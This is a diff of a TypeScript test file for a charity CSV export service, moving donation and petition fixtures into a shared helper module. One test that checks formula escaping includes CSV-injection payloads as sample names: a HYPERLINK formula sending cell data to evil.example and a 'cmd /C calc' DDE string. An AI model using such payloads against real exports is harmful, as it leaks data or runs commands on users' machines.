@@ -3,8 +3,9 @@ import {parse} from 'csv-parse/sync';
 import {afterEach, beforeEach, describe, expect, it} from 'vitest';
 import {createPgStore} from './db/store';
 import {answerExport, parseSince} from './export';
-import type {GiftRecord, GiftStore, KeptGift, KeptSignature} from './store';
+import type {GiftStore} from './store';
 import {DATABASES, type TestDatabase} from './testing/databases';
+import {keptGift, keptSignature, paidRecord} from './testing/records';
 
 const TOKEN = 'export-token-0123456789abcdefghijklmnop';
 const NOW = Date.UTC(2026, 0, 31, 12);
@@ -13,59 +14,6 @@ const DAY = 24 * 60 * 60;
 
 const exportRequest = (query: string, authorization: string | null = `Bearer ${TOKEN}`, method = 'GET') =>
   new Request(`https://coral.example.org/export?${query}`, {method, headers: authorization === null ? {} : {authorization}});
-
-const gift = (change: Partial<KeptGift> = {}): KeptGift => ({
-  reference: 'pi_1',
-  idempotencyKey: `key-${Math.random().toString(36).slice(2)}-0000000000`,
-  via: 'gifts',
-  campaign: 'save-the-reef',
-  sourceCode: 'REEF-WEB',
-  frequency: 'one-off',
-  method: 'card',
-  amount: 6000,
-  fee: 120,
-  currency: 'AUD',
-  payments: null,
-  supporter: {
-    firstName: 'Ada',
-    lastName: 'Lovelace',
-    email: 'ada@example.org',
-    phone: '+61412345678',
-    postcode: '2000',
-    address: '1 Reef Rd',
-  },
-  consent: {given: true, wording: 'Keep me updated.', version: '0123456789abcdef'},
-  utm: {utm_source: 'newsletter', utm_medium: 'email'},
-  upgradeFrom: null,
-  createdAt: JAN_1,
-  ...change,
-});
-
-const signature = (change: Partial<KeptSignature> = {}): KeptSignature => ({
-  idempotencyKey: `key-${Math.random().toString(36).slice(2)}-0000000000`,
-  campaign: 'ban-deep-sea-mining',
-  kind: 'petition',
-  sourceCode: 'DSM-WEB',
-  supporter: {firstName: 'Ada', lastName: 'Lovelace', email: 'ada@example.org', phone: '+61412345678', postcode: '2000'},
-  answer: null,
-  consent: {given: true, wording: 'Keep me updated.', version: '0123456789abcdef'},
-  utm: {},
-  createdAt: JAN_1,
-  ...change,
-});
-
-const payment = (change: Partial<GiftRecord>): GiftRecord => ({
-  outcome: 'paid',
-  reference: 'pi_1',
-  stripeId: 'pi_1',
-  campaign: 'save-the-reef',
-  frequency: 'one-off',
-  amount: 6120,
-  currency: 'AUD',
-  eventId: 'evt_1',
-  recordedAt: JAN_1 + 60,
-  ...change,
-});
 
 const rowsOf = (text: string): Array<Record<string, string>> => parse(text, {columns: true});
 
@@ -156,7 +104,7 @@ describe.each(DATABASES)('export on $name', ({create}) => {
   it('exports signatures exactly as kept: commas, quotes, new lines and any script', async () => {
     const awkward = {firstName: 'Zoë, "Jo"', lastName: 'Ngā\nTāngata 山田', email: 'Zoe@Example.org', postcode: '0600'};
     const {reference} = await store.sign(
-      signature({
+      keptSignature({
         supporter: awkward,
         answer: {id: 'q1', value: 'Yes; "really"\r\nand more'},
         consent: {given: false, wording: 'Email me, text me.', version: 'v2'},
@@ -192,9 +140,9 @@ describe.each(DATABASES)('export on $name', ({create}) => {
   });
 
   it('exports gifts with what Stripe said of each since', async () => {
-    await store.keepGift(gift());
+    await store.keepGift(keptGift());
     await store.keepGift(
-      gift({
+      keptGift({
         reference: 'sub_1',
         frequency: 'monthly',
         supporter: {firstName: 'Grace'},
@@ -204,11 +152,14 @@ describe.each(DATABASES)('export on $name', ({create}) => {
         createdAt: JAN_1 + 10,
       }),
     );
-    await store.recordOnce('failed:evt_0', payment({outcome: 'failed', eventId: 'evt_0', recordedAt: JAN_1 + 30}));
-    await store.recordOnce('paid:pi_1', payment({}));
-    await store.recordOnce('paid:in_1', payment({reference: 'sub_1', stripeId: 'in_1', amount: 2500, recordedAt: JAN_1 + 20}));
-    await store.recordOnce('paid:in_2', payment({reference: 'sub_1', stripeId: 'in_2', amount: 2500, recordedAt: JAN_1 + 20 + 30 * DAY}));
-    await store.recordOnce('ended:sub_1', payment({outcome: 'ended', reference: 'sub_1', amount: null, recordedAt: JAN_1 + 40 * DAY}));
+    await store.recordOnce('failed:evt_0', paidRecord({outcome: 'failed', eventId: 'evt_0', recordedAt: JAN_1 + 30}));
+    await store.recordOnce('paid:pi_1', paidRecord());
+    await store.recordOnce('paid:in_1', paidRecord({reference: 'sub_1', stripeId: 'in_1', amount: 2500, recordedAt: JAN_1 + 20}));
+    await store.recordOnce(
+      'paid:in_2',
+      paidRecord({reference: 'sub_1', stripeId: 'in_2', amount: 2500, recordedAt: JAN_1 + 20 + 30 * DAY}),
+    );
+    await store.recordOnce('ended:sub_1', paidRecord({outcome: 'ended', reference: 'sub_1', amount: null, recordedAt: JAN_1 + 40 * DAY}));
 
     const [first, second, ...rest] = await exported('kind=gifts');
     expect(rest).toEqual([]);
@@ -262,14 +213,14 @@ describe.each(DATABASES)('export on $name', ({create}) => {
   });
 
   it('answers a gift Stripe has said nothing of with empty outcome columns', async () => {
-    await store.keepGift(gift());
+    await store.keepGift(keptGift());
     const [row] = await exported('kind=gifts');
     expect(row).toMatchObject({latest_outcome: '', latest_outcome_at: '', paid_count: '0', paid_total_cents: '0'});
   });
 
   it('puts an apostrophe before every cell a spreadsheet would run as a formula', async () => {
     const {reference} = await store.sign(
-      signature({
+      keptSignature({
         supporter: {
           firstName: '=HYPERLINK("https://evil.example/?"&A1,"Click")',
           lastName: "@SUM(1+1)*cmd|' /C calc'!A0",
@@ -302,7 +253,7 @@ describe.each(DATABASES)('export on $name', ({create}) => {
   it('answers the records made since a date or a moment, oldest first', async () => {
     const made: Array<{createdAt: number; reference: string}> = [];
     for (const [i, createdAt] of [JAN_1 + 2 * DAY, JAN_1, JAN_1 + DAY + 3600, JAN_1 + DAY].entries()) {
-      made.push({createdAt, reference: (await store.sign(signature({supporter: {email: `s${i}@example.org`}, createdAt}))).reference});
+      made.push({createdAt, reference: (await store.sign(keptSignature({supporter: {email: `s${i}@example.org`}, createdAt}))).reference});
     }
     const references = (rows: Array<Record<string, string>>) => rows.map((row) => row.reference);
     const inOrder = made.sort((a, b) => a.createdAt - b.createdAt).map((one) => one.reference);
@@ -316,7 +267,7 @@ describe.each(DATABASES)('export on $name', ({create}) => {
   });
 
   it('reads page after page, one row at a time even when rows share a moment', async () => {
-    for (let i = 0; i < 7; i += 1) await store.sign(signature({supporter: {email: `s${i}@example.org`}, createdAt: JAN_1 + (i % 3)}));
+    for (let i = 0; i < 7; i += 1) await store.sign(keptSignature({supporter: {email: `s${i}@example.org`}, createdAt: JAN_1 + (i % 3)}));
     const whole = await exported('kind=signatures');
     expect(whole).toHaveLength(7);
     const byPage = await exported('kind=signatures', 2);
